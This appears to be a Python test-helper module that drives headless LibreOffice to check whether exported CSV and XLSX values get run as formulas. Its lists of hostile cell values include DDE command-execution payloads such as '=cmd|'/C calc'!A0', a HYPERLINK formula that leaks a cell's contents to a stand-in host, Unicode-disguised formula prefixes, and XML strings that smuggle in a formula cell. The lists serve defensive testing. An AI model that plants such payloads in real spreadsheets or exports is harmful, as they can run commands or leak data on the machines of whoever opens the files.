"""Values that a spreadsheet would run or change, and LibreOffice without a window to open them."""

import os
import re
import shutil
import subprocess
from collections.abc import Callable, Sequence
from pathlib import Path
from typing import Final
from zipfile import ZipFile

SOFFICE: Final = shutil.which("soffice")
WITHOUT: Final = "needs LibreOffice: install libreoffice-calc"
PATIENCE: Final = 300  # seconds, on a machine that does much else
COMMA, SEMICOLON, TAB = 44, 59, 9
UTF_8, UTF_16 = 76, 65_535
AMERICAN, GERMAN = 1_033, 1_031  # languages: how numbers and dates are read
FORMULA: Final = re.compile(r"table:formula=|<(?:\w+:)?f[ >]")
RUNS: Final = (
    "=1+1", "+1+1", "-1+1", "@SUM(1)", "=cmd|'/C calc'!A0", "+cmd|'/C calc'!A0",
    '=HYPERLINK("https://x.example?"&A1,"x")', '=DDE("soffice";"x";"A1")', '=WEBSERVICE("x")',
    " =1+1", "\t=1+1", "\r1+1", "\n1+1", "\tplain", "\u00a0=1+1", "\ufeff=1+1", "\u200b=1+1",
    "\u200e=1+1", "\u200f=1+1", "\u202e=1+1", "\u2066@SUM(1)", "\u2028=1+1", "\u3164=1+1",
    "\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff20SUM(1)", "\u22121+1", "'=1+1", "''=1+1", "' =1+1",
)  # fmt: skip
BREAKS_OUT: Final = (  # past commas, semicolons, tabs and quotes
    'a"b', '"', '""', '"=1+1', 'x";"=1+1', 'x";=1+1;"y', "x;=1+1", "x;=1+1;y", "x,=1+1", "x\t=1+1",
    'x","=1+1', "one, two", "a;;b; c",
)  # fmt: skip
NEW_LINES: Final = ("a\nb", 'a"\nb', "a\n\nb\n", "a\n=1+1", "a;\n=1+1;b", "\n=1+1", "\r=1+1")
LOOKS_OTHERWISE: Final = (  # like a number, a date, a truth value
    "1e10", "1E5", "3e08", "1e5e0000", "00e1234", "12345678901234567890", "1234567890123456",
    "007", "0", "7", "1.10", "1.1", "1.0", "v7", "v1.10", "TRUE", "true", "False", "1/2", "1-2",
    "3/4/2024", "2026-11-20", "2026-11-20T09:13:22Z", "Jan-24", "MAR1", "12:30", "50%", "$5",
    "1,5", "1,234", "1.234,5", "0x1F", "1 ", " 1", "#N/A", "#REF!", "NaN", "unknown", "one of a; b",
    "\u0661\u0662\u0663", "\uff11\uff12", "git:" + "1" * 40, "sha256:" + "0" * 64,
    "1" * 40, "1e" * 20, "e1" + "0" * 38,
)  # fmt: skip
CELL: Final = '</is></c><c r="C2">'
MARKS: Final = (
    "_x0041_", "_x0041_x0042_", "_x005F_", "_x000D_", "<r><t>x</t></r>",
    f'<r><t>x</t></r>{CELL}<f>1+1</f></c><c r="D2" t="inlineStr"><is><r><t>y</t></r>', "]]>",
    "&amp;", "<!--", "é 日本 😀", "\u0000",
    "x\u0001", "_x005F\u0001", "\ufffe", "\u0085\u2029", " lead", "trail ", "", "'", "'tis",
)  # fmt: skip
ESCAPED_BY_HALF: Final = ("_x0041_x0042_", "_x005F\u0001")  # by LibreOffice, when it saves XLSX
LONG: Final = ("x" * 32_767, "x" * 40_000, "😀" * 20_000)
HOSTILE: Final = (*RUNS, *BREAKS_OUT, *NEW_LINES, *LOOKS_OTHERWISE, *MARKS, *LONG)
Convert = Callable[..., Path]


def converter(folder: Path) -> Convert:
    """Opens a file in LibreOffice and saves it as another kind; answers the new file."""

    def convert(file: Path, to: str, *, opened: str = "", saved: str = "") -> Path:
        made = Path(folder, f"{len(list(folder.iterdir()))}")
        made.mkdir()
        asked = [
            str(SOFFICE), f"-env:UserInstallation={(folder / 'profile').as_uri()}", "--headless",
            *([f"--infilter={opened}"] if opened else ()),
            "--convert-to", f"{to}:{saved}" if saved else to, "--outdir", str(made), str(file),
        ]  # fmt: skip
        (folder / "profile").mkdir(exist_ok=True)
        told = subprocess.run(  # noqa: S603  # what is written above
            asked, capture_output=True, timeout=PATIENCE, check=False,
            env=os.environ | {"HOME": str(folder)},
        )  # fmt: skip
        found = sorted(made.iterdir())
        assert found, told.stdout + told.stderr
        return found[0]

    return convert


def as_csv(separator: int = COMMA, *, language: int = AMERICAN, calculate: bool = True) -> str:
    """How CSV in UTF-8 is opened when numbers and dates are looked for, and formulas calculated."""
    asked = f"{separator},34,{UTF_8},1,,{language},false,true,false,false,false,0"
    return f"Text - txt - csv (StarCalc):{asked},{str(calculate).lower()}"


def to_csv(separator: int = COMMA, charset: int = UTF_8) -> str:
    """How CSV is saved: as shown, quotes where they are needed, the first sheet."""
    return (
        f"Text - txt - csv (StarCalc):{separator},34,{charset},1,,0,false,true,false,false,false,1"
    )


def formulas(file: Path) -> int:
    """How many formulas are in a file that LibreOffice made."""
    if file.suffix == ".fods":
        return len(FORMULA.findall(file.read_text(encoding="utf-8")))
    with ZipFile(file) as packed:
        texts = (packed.read(name).decode() for name in packed.namelist() if "sheet" in name)
        return sum(len(FORMULA.findall(text)) for text in texts)


def numbered(values: Sequence[str]) -> list[list[str]]:
    """Records that say which they are."""
    return [[f"r{number}", value, "end"] for number, value in enumerate(values)]
